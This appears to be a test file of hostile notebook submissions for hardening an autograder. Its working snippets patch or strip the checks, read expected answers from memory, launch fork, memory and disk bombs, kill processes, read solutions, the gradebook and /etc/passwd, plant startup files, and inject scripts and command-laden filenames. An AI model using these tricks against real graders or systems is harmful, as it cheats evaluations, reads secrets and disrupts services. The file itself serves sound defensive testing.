"""Hostile submissions of week 0: what a notebook can do to the machine that grades it.

Most attack with the answer `checkerboard` and have an honest `circle`, whose two points they keep.
"""

import json
import os
from pathlib import Path

from attack import Attack, Notebook, content, grade_id, link, own_cell

SOLUTION = Path(__file__).parents[2] / "solutions/week00_python_numpy/python_numpy.ipynb"
KEPT = ("circle",)
KEPT_POINTS = 2.0


def target(body: str, before: str = "") -> dict[str, str]:
    """Give the answer `checkerboard` some statements, and others before it."""
    indented = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return {
        "checkerboard": f"{before.strip()}\n\ndef checkerboard(resolution, tile):\n{indented}\n"
    }


def plain(name: str, tries: str, body: str, before: str = "", **more) -> Attack:
    """Make an attack by the answer, with an honest answer beside it."""
    return Attack(name, tries, KEPT_POINTS, target(body, before), KEPT, **more)


def harmed(name: str, tries: str, body: str, before: str) -> Attack:
    """Make an attack that spoils the honest answer as well."""
    return Attack(name, tries, 0.0, target(body, before), KEPT)


STRIP = """
def strip(lines):
    return [line for line in lines if "check" not in line and "assert" not in line]
shell = get_ipython()
shell.input_transformers_post.append(strip)
shell.input_transformers_cleanup.append(strip)
"""

STRIP_TREE = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass()
    visit_Assert = visit_For = visit_Expr
get_ipython().ast_transformers.append(Strip())
"""

PATCH_CHECKS = """
import helpers.checks as c, sys, types
for module in [m for n, m in sys.modules.items() if n.startswith("helpers")]:
    for name, value in list(vars(module).items()):
        if isinstance(value, types.FunctionType):
            setattr(module, name, lambda *a, **k: None)
fake = types.ModuleType("helpers.checks")
fake.__getattr__ = lambda name: lambda *a, **k: None
sys.modules["helpers.checks"] = checks = fake
"""

PATCH_NUMPY = """
import numpy.testing
for name in ("allclose", "array_equal", "isclose", "all", "array_equiv"):
    setattr(np, name, lambda *a, **k: True)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
"""

PATCH_BUILTINS = """
import builtins
builtins.AssertionError = type("Nothing", (Warning,), {})
builtins.isinstance = lambda *a: True
builtins.all = lambda *a: True
builtins.abs = lambda *a: 0.0
"""

LIAR = """
class Liar:
    shape, dtype, ndim, size = (6, 6), np.dtype(np.float64), 2, 36
    def __getattr__(self, name): return Liar()
    def __call__(self, *a, **k): return Liar()
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __le__ = __lt__ = __gt__ = __ge__ = __sub__
    def __array__(self, *a, **k): return np.zeros((6, 6))
    def __hash__(self): return 0
    def __len__(self): return 6
    def __iter__(self): return iter([Liar()] * 6)
    def __getitem__(self, key): return Liar()
    def __float__(self): return 0.0
"""

LYING_ARRAY = """
class Lie(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros((6, 6))
    def __array_function__(self, *a): return True
    def __array_finalize__(self, other): pass
    def tolist(self): return Lie
    @property
    def shape(self): return (4, 4)
"""

FRAMES = """
import inspect, sys
frame = sys._getframe()
while frame is not None:
    for place in (frame.f_locals, frame.f_globals):
        for name in ("expected", "wanted", "reference", "solution"):
            if name in place:
                return place[name]
    print(sorted(frame.f_locals), inspect.getsource(frame) if frame.f_back else "")
    frame = frame.f_back
"""

COLLECTED = """
import gc
for thing in gc.get_objects():
    if isinstance(thing, np.ndarray) and thing.shape == (resolution, resolution):
        return thing
    if isinstance(thing, (str, bytes)) and "HIDDEN" in str(thing):
        print(thing)
"""

TRACE = """
import sys
def spy(frame, event, argument):
    if "expected" in frame.f_locals:
        print("HIT", frame.f_locals["expected"])
    return spy
sys.settrace(spy)
sys.setprofile(spy)
import threading
threading.settrace(spy)
"""

LATER = """
import atexit, threading, time, os
def later():
    while True:
        time.sleep(0.01)
        try:
            open("{CANARY}", "w").write("dead")
        except Exception:
            pass
        for module in list(__import__("sys").modules.values()):
            if hasattr(module, "close"):
                try:
                    module.close = lambda *a, **k: None
                except Exception:
                    pass
for _ in range(4):
    threading.Thread(target=later, daemon=True).start()
threading.Thread(target=later).start()
atexit.register(later)
"""

FORGE = """
import gc, os, struct, socket
for number in range(3, 64):
    for data in (b"\\x00" * 64, struct.pack("<Q", 2**62) + b"x" * 64, b"\\xff" * 999):
        try:
            os.write(number, data)
        except OSError:
            pass
return np.zeros((resolution, resolution))
"""

FORGE_REPLY = """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Peer", "StudentServer"):
        for name in dir(thing):
            if "reply" in name or "send" in name or "request" in name:
                try:
                    getattr(thing, name)({"scores": {"test_checkerboard_pattern": 1.0}})
                except Exception:
                    pass
"""

ENDLESS = """
class Endless(AssertionError):
    def __str__(self):
        while True:
            pass
    __repr__ = __str__
"""

STRIDES = "return np.lib.stride_tricks.as_strided(np.zeros(1), (10**6, 10**6), (0, 0))"
NESTED = """
deep = []
for _ in range(10**5):
    deep = [deep]
return deep
"""
HOARD = """
hoard = []
while True:
    hoard.append(np.ones(2**24))
"""

PICKLE = """
import os
class Bomb:
    def __reduce__(self):
        return os.system, ("touch {CANARY}.pickle",)
    def __deepcopy__(self, memo):
        return self
"""

READ_SOURCES = """
import glob, os
for place in ("{ROOT}", "{PRIVATE}", "/proc/self/environ", "/proc/1/environ", "/etc/passwd",
              "{ROOT}/solutions/week00_python_numpy/python_numpy.py", "{PRIVATE}/gradebook.db",
              "{OTHER}", "{CANARY}", os.path.expanduser("~"), "/root", "/home", "{SCRATCH}"):
    try:
        print(place, open(place).read())
    except OSError as error:
        try:
            print(place, os.listdir(place))
        except OSError as error:
            pass
    print(glob.glob(place + "/**/*.ipynb", recursive=True))
print(dict(os.environ), __import__("sys").argv)
for line in open("{ROOT}/solutions/week00_python_numpy/python_numpy.py"):
    print(line)
"""

FORK_BOMB = """
import os, subprocess, multiprocessing, threading
def attempt(f):
    try:
        f()
    except BaseException:
        pass
for _ in range(50):
    attempt(os.fork)
    attempt(lambda: subprocess.Popen(["sleep", "1000"]))
    attempt(lambda: multiprocessing.Process(target=print).start())
    attempt(lambda: os.system("touch {CANARY}.shell"))
threads = []
def forever():
    threading.Event().wait()
try:
    for _ in range(100_000):
        threading.Thread(target=forever, daemon=True).start()
except BaseException:
    pass
"""

DISK = """
import os
for number in range(100_000):
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.dirname("{CANARY}")):
        try:
            with open(f"{place}/{number}.bin", "wb") as file:
                file.write(bytes(2**22))
        except OSError:
            if number > 200:
                raise
"""

STUBBORN = """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

NETWORK = """
import socket, urllib.request
def attempt(f):
    try:
        f()
    except Exception:
        pass
attempt(lambda: socket.create_connection(("127.0.0.1", {PORT}), timeout=1).send(b"here"))
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:{PORT}/", timeout=1))
attempt(lambda: socket.socket(2, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", {PORT})))
attempt(lambda: socket.socket(socket.AF_UNIX).connect("{CANARY}.socket"))
"""

KILL = """
import os, signal
for number in (os.getppid(), -1, 0, -os.getpid(), 1, *range(2, 400), {PID}):
    if number != os.getpid():
        for sent in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(number, sent)
            except OSError:
                pass
"""

SHADOW = """
import os, sys
for folder in (".", "helpers", "{ROOT}/helpers", *sys.path):
    for name in ("checks.py", "numpy.py", "helpers.py", "sitecustomize.py", "random.py", "os.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            lie = "def __getattr__(n): return lambda *a, **k: None"
            open(os.path.join(folder, name), "w").write(lie)
        except OSError:
            pass
sys.path.insert(0, ".")
for name in [n for n in sys.modules if n.startswith("helpers")]:
    del sys.modules[name]
"""

PROFILE = """
import os
for home in (os.path.expanduser("~"), "/root", "/home/student", "."):
    for name in (
        ".ipython/profile_default/startup/00.py",
        ".ipython/profile_default/ipython_config.py",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        ".config/matplotlib/matplotlibrc",
    ):
        try:
            path = os.path.join(home, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write("import helpers.checks as c; c.close = print")
        except OSError:
            pass
"""

SHELL = """
import os
shell = get_ipython()
shell.run_cell = lambda *a, **k: None
shell.run_line_magic = shell.system = lambda *a, **k: None
shell.user_ns.update(checks=None, expected=None)
for line in ("!touch {CANARY}.bang", "%system touch {CANARY}.m", "%%bash\\ntouch {CANARY}.c"):
    try:
        type(shell).run_cell(shell, line)
    except BaseException:
        pass
"""

SCRIPTS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>alert('ATTACKED')</script><img src=x onerror=alert('ATTACKED')>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=alert('ATTACKED')></svg>"))
display(Javascript("alert('ATTACKED')"))
display(Markdown("[a](javascript:alert('ATTACKED'))<style>*{display:none}</style>"))
display({"text/html": "<iframe src=//x>", "image/png": "bm90IGEgcGljdHVyZQ=="}, raw=True)
print("\\x1b]8;;http://x\\x07<script>alert('ATTACKED')</script>\\x1b[2J")
"""


def more_points(notebook: Notebook) -> None:
    """Write a hundred points at each test."""
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"]["points"] = 100


def empty_tests(notebook: Notebook) -> None:
    """Unlock the tests and empty them."""
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade") and cell["cell_type"] == "code":
            cell["metadata"]["nbgrader"] |= {"locked": False, "solution": True}
            cell["source"] = "1"


def without_tests(notebook: Notebook) -> None:
    """Take the tests out."""
    notebook["cells"] = [
        cell for cell in notebook["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")
    ]


def doubled_tests(notebook: Notebook) -> None:
    """Give each test a second cell with the same id that says nothing."""
    tests = [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]
    for cell in tests:
        second = json.loads(json.dumps(cell)) | {"source": "pass", "id": None}
        notebook["cells"] += [second | {"id": f"second{len(notebook['cells'])}"}]


def own_tests(notebook: Notebook) -> None:
    """Add tests of its own that are worth points, and return them."""
    for number in range(9):
        marks = {"grade": True, "solution": False, "locked": True, "points": 9}
        cell = own_cell("9")
        cell["metadata"]["nbgrader"] = {**marks, "grade_id": f"test_mine_{number}"}
        notebook["cells"].append(cell)


def other_kinds(notebook: Notebook) -> None:
    """Make tests text and text code."""
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            kind = cell["cell_type"]
            cell["cell_type"] = "markdown" if kind == "code" else "code"


def strange_metadata(notebook: Notebook) -> None:
    """Put what is no metadata where metadata belong."""
    for number, cell in enumerate(notebook["cells"]):
        if grade_id(cell) not in ("checkerboard", "circle"):
            odd = [None, [], "x", {"nbgrader": 3}, {"nbgrader": {"grade_id": ["x"]}}, {"tags": 7}]
            cell["metadata"] = odd[number % len(odd)]
    notebook["metadata"] = {"kernelspec": {"name": "bash", "argv": ["touch", "x"]}}


def tests_first(notebook: Notebook) -> None:
    """Put the tests before the answers, where what they call is not there yet."""
    tests = [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]
    rest = [c for c in notebook["cells"] if c not in tests]
    notebook["cells"] = tests + rest


def all_demos(notebook: Notebook) -> None:
    """Tag everything as a demonstration, which is not run."""
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["demo", "in-place"]


def deep(notebook: Notebook, path: Path) -> None:
    """Nest lists deeper than a parser likes."""
    path.write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")


def huge(notebook: Notebook, path: Path) -> None:
    """Hand in a file of a gigabyte that takes no room on disk."""
    with open(path, "wb") as file:
        file.truncate(2**30)


def pipe(notebook: Notebook, path: Path) -> None:
    """Hand in a pipe that never ends."""
    os.mkfifo(path)


def beside(notebook: Notebook, path: Path) -> None:
    """Put modules of the same names beside the notebook."""
    path.write_text(json.dumps(notebook))
    (path.parent / "helpers").mkdir()
    lie = "def __getattr__(name):\n    return lambda *a, **k: None\n"
    for name in ("helpers/__init__.py", "helpers/checks.py", "numpy.py", "sitecustomize.py"):
        (path.parent / name).write_text(lie)


def odd_names(notebook: Notebook, path: Path) -> None:
    """Hand in files whose names are commands, escapes and ways out."""
    names = ("..\\..\\x.ipynb", "-rf.ipynb", "$(touch x).ipynb", "\x1b[2J.ipynb", "a\nb.ipynb")
    for name in names:
        (path.parent / name).write_text(json.dumps(notebook))


def as_folder(notebook: Notebook, path: Path) -> None:
    """Make a folder where the notebook should be."""
    path.mkdir()


ATTACKS = [
    plain("input-transformer", "strips the checks from all later cells", "return None", STRIP),
    plain("tree-transformer", "strips calls and asserts from all later cells", "pass", STRIP_TREE),
    plain("patched-checks", "makes every check pass", "return None", PATCH_CHECKS),
    plain(
        "patched-numpy", "makes NumPy's comparisons true", "return np.zeros((6, 6))", PATCH_NUMPY
    ),
    harmed("patched-builtins", "makes failing impossible", "return 1.0", PATCH_BUILTINS),
    harmed("patched-shell", "takes the shell over, starts programs by it", "return None", SHELL),
    plain("liar", "returns an object that equals everything", "return Liar()", LIAR),
    plain(
        "lying-array",
        "returns an array that equals all",
        "return np.zeros((6, 6)).view(Lie)",
        LYING_ARRAY,
    ),
    plain("frames", "reads what is expected in the caller's frames", FRAMES),
    plain("collected", "finds what is expected among all objects", COLLECTED),
    plain("tracer", "watches the checks run", "return 0", TRACE),
    plain("exit-at-once", "ends the process when it is called", "import os\nos._exit(0)"),
    plain(
        "exit-on-import", "ends the process when it is defined", "pass", "import os\nos._exit(0)"
    ),
    plain("system-exit", "leaves by SystemExit", "raise SystemExit(0)", "import sys"),
    plain("keyboard", "raises what an interrupt raises", "raise KeyboardInterrupt"),
    plain(
        "number-last",
        "ends its cells with a number, as partial credit",
        "return 1",
        "",
        last=("100",),
    ),
    plain("later", "acts later, in threads and at the end", "return None", LATER),
    plain("gigabytes", "prints gigabytes", "while True:\n    print('x' * 10**6)"),
    plain(
        "gigabytes-on-import",
        "prints gigabytes, and is called after",
        "return 0",
        "for _ in range(3000):\n    print('y' * 10**6)",
    ),
    plain("fork-bomb", "starts processes and threads without end", "return 0", FORK_BOMB),
    plain("memory-bomb", "takes all memory", HOARD),
    plain("disk-bomb", "fills the disk", DISK),
    plain("stubborn", "loops and ignores every signal", STUBBORN),
    plain("network", "calls home", "return 0", NETWORK),
    plain("killer", "kills the grader", KILL + "return 0"),
    plain(
        "reader",
        "reads solutions, gradebook, others' work and the environment",
        "return 0",
        READ_SOURCES,
    ),
    plain("pickle", "returns an object whose pickle runs a program", "return Bomb()", PICKLE),
    plain(
        "pickle-in-array",
        "hides it in an array",
        "return np.array([[Bomb()] * 6] * 6, dtype=object)",
        PICKLE,
    ),
    plain("forged-frames", "writes noise into the grader's connection", FORGE),
    plain("forged-reply", "answers in the grader's name", FORGE_REPLY),
    plain(
        "endless-iterator", "returns what never ends", "import itertools\nreturn itertools.count()"
    ),
    plain("deep-result", "returns lists nested without end", NESTED),
    plain(
        "round-result",
        "returns a list that contains itself",
        "round = []\nround.append(round)\nreturn round",
    ),
    plain("huge-number", "returns a number of ten million digits", "return 1 << 10**8"),
    plain("huge-array", "returns an array of a terabyte", STRIDES),
    plain("endless-error", "raises an error whose text never ends", "raise Endless()", ENDLESS),
    plain("endless-text", "shows what takes for ever", "return 0", ENDLESS, last=("Endless()",)),
    plain("shadow", "puts modules of its own in the way", "return None", SHADOW),
    plain(
        "profile", "leaves files that IPython and Python run when they start", "return 0", PROFILE
    ),
    plain(
        "scripts",
        "puts scripts into the feedback",
        "raise ValueError('<script>ATTACKED</script>')",
        SCRIPTS,
    ),
    plain("more-points", "raises the points", "return 0", change=more_points),
    plain("empty-tests", "empties the tests", "return 0", change=empty_tests),
    plain("without-tests", "takes the tests out", "return 0", change=without_tests),
    plain("doubled-tests", "adds empty tests of the same names", "return 0", change=doubled_tests),
    plain("own-tests", "adds tests of its own, worth points", "return 0", change=own_tests),
    plain("other-kinds", "turns tests into text", "return 0", change=other_kinds),
    plain("strange-metadata", "has metadata that are none", "return 0", change=strange_metadata),
    plain("all-demos", "tags all cells as demonstrations", "return 0", change=all_demos),
    plain("modules-beside", "hands in modules named as the course's", "return 0", write=beside),
    Attack("tests-first", "runs the tests before the answers", 0.0, {}, (), change=tests_first),
    Attack("deep-json", "breaks the parser", 0.0, write=deep, status="unreadable"),
    Attack("huge-json", "fills the memory by its size", 0.0, write=huge, status="too_large"),
    Attack(
        "broken-json", "is no notebook", 0.0, write=content(b'{"cells": ['), status="unreadable"
    ),
    Attack("binary", "is no text", 0.0, write=content(b"\xff\xfe\x00PK" * 99), status="unreadable"),
    Attack(
        "old-format",
        "is of another format",
        0.0,
        status="unreadable",
        write=content(b'{"nbformat": 3, "worksheets": [{"cells": []}], "metadata": {}}'),
    ),
    Attack(
        "link-to-solution", "is a link to the solution", 0.0, write=link(SOLUTION), status="symlink"
    ),
    Attack("pipe", "is a pipe that never ends", 0.0, write=pipe, status="unreadable"),
    Attack("folder", "is a folder", 0.0, write=as_folder, status="unreadable"),
    Attack("odd-names", "has names that are commands", 0.0, write=odd_names, status="wrong_name"),
]
